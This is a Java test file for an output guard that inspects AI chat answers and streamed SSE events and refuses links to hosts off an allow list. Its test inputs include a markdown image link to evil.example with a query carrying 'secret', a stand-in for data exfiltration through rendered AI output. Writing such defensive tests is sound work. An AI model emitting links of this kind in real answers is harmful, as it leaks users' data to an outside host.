package io.github.gatehouse.output;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.gatehouse.Finding;
import io.github.gatehouse.GuardException;
import io.github.gatehouse.Payload;
import io.github.gatehouse.Reason;
import io.github.gatehouse.payload.Body;
import io.github.gatehouse.payload.ContentType;
import io.github.gatehouse.payload.SseStream;
import io.github.gatehouse.payload.TextPaths;
import io.github.gatehouse.payload.Values;
import io.github.gatehouse.payload.dialect.Dialect;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class BoundaryInspectorTest {

    private static final String DONE = "data: [DONE]\n\n";
    private static final String FINISH =
            "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n";

    private final List<Finding> findings = new ArrayList<>();
    private final List<Payload> out = new ArrayList<>();

    private BoundaryInspector inspector() {
        return new BoundaryInspector("ask", Boundaries.of(0, List.of("good.example"), true, true), findings::add);
    }

    @Test
    void wholeAnswer_thatLinksElsewhereIsRefusedWithoutSayingWhere() {
        Payload answer = Body.read(
                "{\"answer\":[\"![](https:\\/\\/evil.example\\/?q=1)\"]}".getBytes(UTF_8),
                new ContentType("application/json", Optional.empty()),
                TextPaths.EVERY_STRING);

        assertThatThrownBy(() -> inspector().accept(answer, out::add))
                .isInstanceOfSatisfying(
                        GuardException.class,
                        e -> assertThat(e.refusal().reason()).isEqualTo(Reason.ANSWER_INVALID))
                .hasMessageNotContaining("evil");
        assertThat(findings).extracting(Finding::rule).containsExactly("link-unlisted");
        assertThat(findings).extracting(Finding::place).containsExactly("/answer/0");
    }

    @Test
    void result_isLookedThrough() {
        Payload result = Values.of(List.of(Map.of("a", List.of("see https://evil.example"))));

        assertThatThrownBy(() -> inspector().accept(result, out::add)).isInstanceOf(GuardException.class);
    }

    @Test
    void stream_goesOnAsItIsWhileNoLinkIsOpen() {
        List<Payload> events = events("Hello", " world, see", " https", ":", "//good", ".exam", "ple", "/x", " now");
        List<Integer> passed = new ArrayList<>();
        BoundaryInspector inspector = inspector();
        for (Payload event : events) {
            inspector.accept(event, out::add);
            passed.add(out.size());
        }
        inspector.end(out::add);

        assertThat(passed).startsWith(1, 2, 3, 3, 3, 3, 3, 8, 9);
        assertThat(out).containsExactlyElementsOf(events);
    }

    @Test
    void stream_endsBeforeTheHostOfALinkElsewhereHoweverItIsCut() {
        String answer = "Of course: ![x](https://evil.example/?q=secret) and more";
        for (int length = 1; length < answer.length(); length++) {
            out.clear();
            BoundaryInspector inspector = inspector();
            List<Payload> events = events(answer.split("(?<=\\G.{" + length + "})"));

            assertThatThrownBy(() -> events.forEach(event -> inspector.accept(event, out::add)))
                    .isInstanceOf(GuardException.class);
            assertThat(said()).doesNotContain("https://").doesNotContain("evil");
        }
    }

    @Test
    void stream_mayEndWithALinkToAListedHost() {
        List<Payload> events = events("see https://good.example");
        events.addAll(read(FINISH + DONE));
        BoundaryInspector inspector = inspector();
        events.forEach(event -> inspector.accept(event, out::add));

        assertThat(out).containsExactlyElementsOf(events);
    }

    @Test
    void hostThatGoesOnAfterASilentEvent_isFoundStill() {
        List<Payload> events = events("see https://good.example");
        events.addAll(read(FINISH));
        events.addAll(events(".evil.example/x"));
        BoundaryInspector inspector = inspector();

        assertThatThrownBy(() -> events.forEach(event -> inspector.accept(event, out::add)))
                .isInstanceOf(GuardException.class);
    }

    @Test
    void hostAtTheEnd_isJudgedBeforeItGoesOut() {
        List<Payload> events = events("see https://evil.example");
        events.addAll(read(FINISH + DONE));
        BoundaryInspector inspector = inspector();
        events.forEach(event -> inspector.accept(event, out::add));

        assertThat(out).isEmpty();
        assertThatThrownBy(() -> inspector.end(out::add)).isInstanceOf(GuardException.class);
        assertThat(out).isEmpty();
    }

    @Test
    void choicesThatComeInTurns_areLookedAtEachByItself() {
        List<Payload> events =
                read(delta(0, "https://good.ex") + delta(1, "http") + delta(0, "ample/") + delta(1, "s"));
        BoundaryInspector inspector = inspector();

        assertThatCode(() -> {
                    events.forEach(event -> inspector.accept(event, out::add));
                    inspector.end(out::add);
                })
                .doesNotThrowAnyException();
        assertThat(out).containsExactlyElementsOf(events);
    }

    private String said() {
        StringBuilder said = new StringBuilder();
        out.forEach(event ->
                event.edit(text -> said.append(new String(text.bytes(), text.from(), text.to() - text.from(), UTF_8))));
        return said.toString();
    }

    private static List<Payload> events(String... pieces) {
        StringBuilder stream = new StringBuilder();
        for (String piece : pieces) {
            stream.append(delta(0, piece));
        }
        return read(stream.toString());
    }

    private static String delta(int choice, String piece) {
        return "data: {\"choices\":[{\"index\":" + choice + ",\"delta\":{\"content\":\"" + piece + "\"}}]}\n\n";
    }

    private static List<Payload> read(String stream) {
        SseStream reader = new SseStream(Dialect.OPENAI_CHAT.paths());
        List<Payload> events = new ArrayList<>();
        byte[] bytes = stream.getBytes(UTF_8);
        reader.feed(bytes, 0, bytes.length, events::add);
        return events;
    }
}
